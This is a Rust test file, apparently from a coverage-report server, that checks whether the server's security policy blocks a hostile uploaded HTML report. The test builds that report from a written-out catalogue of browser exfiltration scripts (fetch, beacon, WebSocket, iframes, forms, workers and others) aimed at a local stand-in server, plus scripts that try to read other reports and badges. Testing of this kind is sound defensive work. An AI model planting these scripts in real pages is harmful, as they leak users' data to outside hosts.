//! Reports are untrusted pages. With the server's security policy, reports of every tool work as without it, and a hostile
//! report can send and read nothing.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use http_body_util::BodyExt;
use hyper::header::HeaderValue;
use serde_json::{Value, json};
use xtask::lab::http::{Dropped, Serving, forward, full};
use xtask::lab::parts::{Part, skip, skip_without};
use xtask::lab::{covered, node, paths, process};

use crate::{REPOSITORY, SHA, World, setting};

const BROWSER: [Part; 2] = [Part::Node, Part::Chromium];

/// The folders with a page: all in `folder`, or the subfolder `subfolder` of each.
fn reports_in(folder: &Path, subfolder: &str) -> Vec<(String, PathBuf)> {
    let entries = std::fs::read_dir(folder).unwrap_or_else(|error| panic!("{}: {error}", folder.display()));
    let is_page = |entry: std::fs::DirEntry| entry.path().extension().is_some_and(|end| end == "html");
    let mut reports = Vec::new();
    for path in entries.map(|entry| entry.unwrap().path()) {
        let report = path.join(subfolder);
        if report.is_dir() && std::fs::read_dir(&report).unwrap().any(|entry| is_page(entry.unwrap())) {
            reports.push((path.file_name().unwrap().to_string_lossy().into_owned(), report));
        }
    }
    reports.sort();
    reports
}

/// Uploads a report with any total; returns its path.
fn upload(world: &World, report: &Path) -> String {
    let server = &world.server.url;
    let mut command = covered::covered(report, server, &world.github.url(), REPOSITORY, SHA);
    let log = process::run(&mut command).unwrap().text();
    let link =
        log.lines().find_map(|line| line.strip_prefix("Report: ")).unwrap_or_else(|| panic!("{report:?}\n{log}"));
    link.strip_prefix(server.as_str()).unwrap().to_owned()
}

/// A proxy to the same server that removes the policy.
fn without_policy(upstream: &str) -> Serving {
    let upstream = upstream.to_owned();
    Serving::start(move |request| {
        let upstream = upstream.clone();
        async move {
            let (mut parts, body) = request.into_parts();
            parts.uri = format!("{upstream}{}", parts.uri).parse().unwrap();
            parts.headers.remove("sec-fetch-site");
            let body = body.collect().await.map_err(|_| Dropped)?.to_bytes();
            let response = forward(hyper::Request::from_parts(parts, full(body))).await.map_err(|_| Dropped)?;
            let (mut parts, body) = response.into_parts();
            for name in ["content-security-policy", "permissions-policy", "cross-origin-opener-policy"] {
                parts.headers.remove(name);
            }
            Ok(hyper::Response::from_parts(parts, full(body.collect().await.map_err(|_| Dropped)?.to_bytes())))
        }
    })
}

fn texts(list: &Value) -> BTreeSet<&str> {
    list.as_array().unwrap().iter().map(|text| text.as_str().unwrap()).collect()
}

#[test]
fn reports_of_every_tool_work_with_the_security_policy() {
    if skip_without(&BROWSER) {
        return;
    }
    let mut reports = reports_in(&paths::root().join("action/tests/fixtures/totals"), "");
    reports.push(("sample".to_owned(), paths::root().join("xtask/sample/report")));
    // Counted: most fixtures are without their scripts. More fixtures can only add to it.
    compare_with_and_without_policy(&reports, [("filter", 11), ("sort", 86), ("expand", 19), ("file", 76)]);
}

/// More reports, which are too large for the repository: `NAME/report` folders in the folder beside it, or in the one
/// that `COVERED_CORPUS` names.
#[test]
fn reports_of_the_corpus_work_with_the_security_policy() {
    if skip_without(&BROWSER) {
        return;
    }
    let named = std::env::var_os("COVERED_CORPUS").map(PathBuf::from);
    let is_named = named.is_some();
    let corpus = named.unwrap_or_else(|| paths::root().join("../shared/corpus"));
    if !is_named && !corpus.is_dir() {
        return skip(&format!("there is no collection of reports at {}", corpus.display()));
    }
    let reports = reports_in(&corpus, "report");
    let fifth = reports.len() / 5;
    compare_with_and_without_policy(&reports, ["filter", "sort", "expand", "file"].map(|step| (step, fifth + 1)));
}

/// Uses each report with the policy and without it; fails if anything differs, or if a step was possible in fewer reports
/// than given.
fn compare_with_and_without_policy(reports: &[(String, PathBuf)], least: [(&str, usize); 4]) {
    let world = World::new(&setting("STORAGE_URL", "memory://"));
    let plain = without_policy(&world.server.url);
    let task: Vec<Value> = reports
        .iter()
        .map(|(name, report)| {
            let path = upload(&world, report);
            json!({"name": name, "guarded": format!("{}{path}", world.server.url), "plain": format!("{}{path}", plain.url())})
        })
        .collect();
    let seen = node::browse_reports(&json!({"reports": task, "attacks": []}));
    let mut wrong = Vec::new();
    let mut steps = BTreeSet::new();
    for report in seen["reports"].as_array().unwrap() {
        let name = report["name"].as_str().unwrap();
        // Ignores files that are missing without the policy, too.
        let missing = texts(&report["missing"]);
        let is_new = |problem: &&&str| !missing.iter().any(|path| problem.contains(path));
        let without = texts(&report["problemsWithout"]);
        let added: Vec<&str> = texts(&report["problems"]).difference(&without).filter(is_new).copied().collect();
        if !added.is_empty() {
            wrong.push(format!("{name}: {added:#?}"));
        }
        wrong.extend(texts(&report["differences"]).iter().map(|difference| format!("{name}, {difference}")));
        steps.extend(texts(&report["steps"]).into_iter().map(|step| (step, name)));
    }
    assert!(wrong.is_empty(), "{} of {} reports:\n{}", wrong.len(), reports.len(), wrong.join("\n"));
    assert_eq!(seen["reports"].as_array().unwrap().len(), reports.len());
    for (step, least) in least {
        let count = steps.iter().filter(|(done, _)| *done == step).count();
        assert!(count >= least, "{step}: {count} of {least} reports: {steps:?}");
    }
}

/// A foreign server that records the requested paths.
fn foreign_server() -> (Serving, Arc<Mutex<BTreeSet<String>>>) {
    let seen = Arc::new(Mutex::new(BTreeSet::new()));
    let shared = seen.clone();
    let serving = Serving::start(move |request| {
        shared.lock().unwrap().insert(request.uri().path().trim_start_matches('/').to_owned());
        let mut response = hyper::Response::new(full(""));
        response.headers_mut().insert("access-control-allow-origin", HeaderValue::from_static("*"));
        async move { Ok(response) }
    });
    (serving, seen)
}

/// Scripts of a hostile report on one page, by the path that they request from the foreign server.
const REQUESTS: &[(&str, &str)] = &[
    ("fetch", "fetch(E + 'fetch', {mode: 'no-cors'})"),
    ("xhr", "const x = new XMLHttpRequest(); x.open('POST', E + 'xhr'); x.send('data')"),
    ("beacon", "navigator.sendBeacon(E + 'beacon', 'data')"),
    ("socket", "new WebSocket(E.replace('http', 'ws') + 'socket')"),
    ("events", "new EventSource(E + 'events')"),
    ("image", "new Image().src = E + 'image'"),
    ("script", "add('script', {src: E + 'script'})"),
    ("import", "import(E + 'import').catch(() => {})"),
    ("style", "add('link', {rel: 'stylesheet', href: E + 'style'})"),
    ("css-import", "add('style', {textContent: `@import '${E}css-import'`})"),
    ("background", "document.body.style.background = `url(${E}background)`"),
    ("font", "new FontFace('f', `url(${E}font)`).load().catch(() => {})"),
    ("video", "add('video', {src: E + 'video'})"),
    ("object", "add('object', {data: E + 'object'})"),
    ("embed", "add('embed', {src: E + 'embed'})"),
    ("frame", "add('iframe', {src: E + 'frame'})"),
    ("inner", "add('iframe', {srcdoc: `<img src='${E}inner'>`})"),
    ("data-frame", "add('iframe', {src: `data:text/html,<img src='${E}data-frame'>`})"),
    ("blob-frame", "add('iframe', {src: blob(`<img src='${E}blob-frame'>`, 'text/html')})"),
    ("frame-form", "add('iframe', {name: 'f'}); add('form', {action: E + 'frame-form', target: 'f'}).submit()"),
    ("ping", "add('a', {href: '#here', ping: E + 'ping'}).click()"),
    ("prefetch", "add('link', {rel: 'prefetch', href: E + 'prefetch'})"),
    ("preload", "add('link', {rel: 'preload', as: 'image', href: E + 'preload'})"),
    ("module", "add('link', {rel: 'modulepreload', href: E + 'module'})"),
    ("worker", "new Worker(blob(`fetch('${E}worker', {mode: 'no-cors'})`, 'text/javascript'))"),
    ("svg", "add('div', {innerHTML: `<svg><image href='${E}svg'/></svg>`})"),
];

/// Scripts that navigate away from the page.
const NAVIGATIONS: &[(&str, &str)] = &[
    ("form", "add('form', {action: E + 'form', method: 'post'}).submit()"),
    ("blob-page", "location = blob(`<img src='${E}blob-page'>`, 'text/html')"),
    ("script-page", "location = `javascript:'<img src=${E}script-page>'`"),
    ("base", "add('base', {href: E}); add('form', {action: 'base'}).submit()"),
];

/// A script that tries to read badges and other reports of the server.
const READS: &str = "
    const check = (name) => (text) => text.includes('pc_cov') || text.includes('schemaVersion') ? read.push(name) : 0;
    fetch('/badge/octo/app.json').then((response) => response.text()).then(check('badge')).catch(() => {});
    fetch('/badge/redirect/octo/app/').then((response) => response.text()).then(check('redirect')).catch(() => {});
    const html = (frame) => frame.contentDocument.documentElement.outerHTML;
    add('iframe', {src: '/badge/redirect/octo/app/', onload() { try { check('frame')(html(this)) } catch {} }});
    add('button', {textContent: 'more', onclick() {
        const opened = open('/badge/redirect/octo/app/');
        setTimeout(() => { try { check('window')(opened.document.documentElement.outerHTML) } catch {} }, 1000);
    }});
    navigator.serviceWorker.register('sw.js').then(() => read.push('service worker')).catch(() => {});";

/// Writes a report with these scripts.
fn write_hostile_report(folder: &Path, foreign: &str) {
    let start = format!(
        "<!DOCTYPE html><meta charset=utf-8><link rel=icon href=data:,><body><script>
         const E = '{foreign}/'; window.read = [];
         const add = (name, what) => document.body.appendChild(Object.assign(document.createElement(name), what));
         const blob = (text, type) => URL.createObjectURL(new Blob([text], {{type}}));"
    );
    let all: String = REQUESTS.iter().map(|(_, script)| format!("try {{ {script} }} catch {{}}\n")).collect();
    let write = |name: &str, script: &str| {
        std::fs::write(folder.join(name), format!("{start}\n{script}\n</script>")).unwrap();
    };
    write("index.html", &all);
    write("reads.html", READS);
    NAVIGATIONS.iter().for_each(|(name, script)| write(&format!("{name}.html"), script));
    std::fs::write(folder.join("sw.js"), "self.addEventListener('fetch', () => {})").unwrap();
}

#[test]
fn the_security_policy_blocks_a_hostile_report() {
    if skip_without(&BROWSER) {
        return;
    }
    let world = World::new(&setting("STORAGE_URL", "memory://"));
    // The hostile report tries to read this one.
    world.upload_small("87.5", SHA);
    let (evil, seen) = foreign_server();
    let folder = world.folder.path().join("hostile");
    std::fs::create_dir(&folder).unwrap();
    write_hostile_report(&folder, &evil.url());
    let path = upload(&world, &folder);
    let plain = without_policy(&world.server.url);
    let attack = |server: &str| {
        let pages = ["", "reads.html"].map(ToOwned::to_owned).into_iter();
        let pages = pages.chain(NAVIGATIONS.iter().map(|(name, _)| format!("{name}.html")));
        let attacks: Vec<Value> =
            pages.map(|page| json!({"name": page, "url": format!("{server}{path}{page}")})).collect();
        let read = node::browse_reports(&json!({"reports": [], "attacks": attacks}))["attacks"][1]["read"].clone();
        let reached = std::mem::take(&mut *seen.lock().unwrap());
        (reached, texts(&read).into_iter().map(ToOwned::to_owned).collect::<BTreeSet<_>>())
    };
    // Without the policy, each script must work; otherwise the test would prove nothing.
    let (reached, read) = attack(&plain.url());
    let missing: Vec<&str> =
        REQUESTS.iter().chain(NAVIGATIONS).map(|(name, _)| *name).filter(|name| !reached.contains(*name)).collect();
    assert_eq!(missing, [""; 0], "{reached:?}");
    let readable = ["badge", "frame", "redirect", "window"].map(ToOwned::to_owned);
    assert!(readable.iter().all(|name| read.contains(name)), "{read:?}");

    assert_eq!(attack(&world.server.url), Default::default());
}
